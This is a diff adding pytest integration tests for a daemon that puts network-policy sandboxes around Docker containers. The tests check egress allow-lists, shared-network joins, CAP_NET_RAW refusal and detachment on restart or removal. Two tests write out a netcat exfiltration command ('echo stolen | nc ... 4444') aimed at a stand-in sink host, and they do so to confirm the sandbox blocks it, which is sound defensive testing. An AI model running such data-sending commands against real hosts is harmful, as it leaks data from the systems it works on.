@@ -1,0 +1,107 @@
+"""Containers of a real engine under the node daemon: found by their names, guarded from outside, let go with them."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from lab import plan
+from lab.daemon import Daemon, Sandbox
+from lab.engine import IMAGE, Engine, engine
+from lab.internet import Internet
+from lab.processes import wait_until
+from lab.sandgate import allowing
+
+WITHOUT_RAW = ("--cap-drop", "NET_RAW")
+
+
+@pytest.fixture(scope="module")
+def docker(net: Internet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
+    with engine(net, tmp_path_factory.mktemp("engine")) as made:
+        yield made
+
+
+@pytest.fixture
+def daemon(internet: Internet, docker: Engine, tmp_path: Path) -> Iterator[Daemon]:
+    configuration = tmp_path / "configuration.yaml"
+    configuration.write_text(f"containerSockets: [/nowhere/docker.sock, {docker.socket}]\n")
+    made = Daemon(internet, tmp_path, "--config", str(configuration))
+    try:
+        made.start()
+        yield made
+    finally:
+        made.clean_up()
+
+
+def attach(daemon: Daemon, container: str, policy: object, **fields: object) -> Sandbox:
+    return daemon.create(policy, attachment={"container": container, **fields})
+
+
+def fetched(docker: Engine, container: str, name: str) -> bool:
+    """Whether a program in a container gets a page of a web server."""
+    return f"served {name}" in docker.run(container, "/usr/bin/curl", "-sS", "-m", "5", f"http://{name}/").stdout
+
+
+def test_container_is_guarded(internet: Internet, daemon: Daemon, docker: Engine) -> None:
+    container = docker.start(*WITHOUT_RAW)
+    send = ("/bin/sh", "-c", f"echo stolen | nc -w 2 {plan.SINK4} 4444")
+    assert docker.run(container, *send).returncode == 0
+    assert "stolen" in internet.sinks.data()
+    sandbox = attach(daemon, container, allowing(plan.ALLOWED))
+    assert docker.run(container, *send).returncode != 0 and internet.sinks.data() == ""
+    assert fetched(docker, container, plan.ALLOWED) and not fetched(docker, container, plan.DENIED)
+    assert internet.web.hosts() == {plan.ALLOWED}
+    # Of what joins its network, the same is true.
+    joined = ("--network", f"container:{container}", IMAGE)
+    output = docker.docker("run", "--rm", *WITHOUT_RAW, *joined, "/bin/sh", "-c", f"{send[-1]} || echo refused")
+    assert output == "refused" and internet.sinks.data() == ""
+    # Restarted, it has another network, which nobody guards: the sandbox is gone, and says so.
+    docker.docker("restart", "--time", "0", container)
+    sandbox.wait_for("gone")
+    assert [record["event"] for record in daemon.records(sandbox=sandbox.id)][-1] == "sandbox.detached"
+
+
+def test_network_is_guarded_before_the_workload_begins(internet: Internet, daemon: Daemon, docker: Engine) -> None:
+    """The way without a race: a container that does nothing holds the network, and the workload joins it."""
+    holder = docker.start(*WITHOUT_RAW, "--name", "holder")
+    attach(daemon, "holder", allowing(plan.ALLOWED), inbound="none")
+    script = f"echo early | nc -w 1 {plan.SINK4} 4444; curl -sS -m 5 http://{plan.ALLOWED}/"
+    output = docker.docker("run", "--rm", *WITHOUT_RAW, "--network", "container:holder", IMAGE, "/bin/sh", "-c", script)
+    assert f"served {plan.ALLOWED}" in output and internet.sinks.data() == ""
+    docker.docker("rm", "--force", holder)
+
+
+def test_docker_default_capabilities_are_refused(internet: Internet, daemon: Daemon, docker: Engine) -> None:
+    container = docker.start()
+    body = {"attachment": {"container": container}, "networkPolicy": allowing(plan.ALLOWED)}
+    refused = daemon.request("POST", "/v1/sandboxes", body)
+    assert refused.status == 422 and "CAP_NET_RAW" in refused.text and "acceptRawSockets" in refused.text, refused
+    sandbox = attach(daemon, container, allowing(plan.ALLOWED), acceptRawSockets=True)
+    assert sandbox.ask("GET").json["acceptedRisks"] != []
+    assert fetched(docker, container, plan.ALLOWED) and not fetched(docker, container, plan.DENIED)
+    assert sandbox.ask("DELETE").status == 204
+    assert fetched(docker, container, plan.ALLOWED) is False  # nobody resolves for it any more
+    docker.docker("rm", "--force", container)
+
+
+def test_containers_that_cannot_be_attached(daemon: Daemon, docker: Engine) -> None:
+    stopped = docker.docker("create", IMAGE, "/bin/true")
+    for name, words in (("absent", "there is no container absent"), (stopped, "does not run")):
+        answer = daemon.request("POST", "/v1/sandboxes", {"attachment": {"container": name}})
+        assert answer.status == 422 and words in answer.text and "attachment.container" in answer.text, answer
+    docker.docker("rm", "--force", stopped)
+
+
+def test_sandbox_goes_with_its_container(daemon: Daemon, docker: Engine) -> None:
+    container = docker.start(*WITHOUT_RAW)
+    sandbox = attach(daemon, container, allowing(plan.ALLOWED))
+    daemon.restart()
+    assert sandbox.state == "Running"
+    docker.docker("rm", "--force", container)
+    sandbox.wait_for("gone")
+    again = docker.start(*WITHOUT_RAW)
+    assert attach(daemon, again, allowing(plan.ALLOWED)).state == "Running"
+    wait_until(lambda: len(daemon.request("GET", "/v1/sandboxes").json["items"]) == 1, "the list")
+    docker.docker("rm", "--force", again)
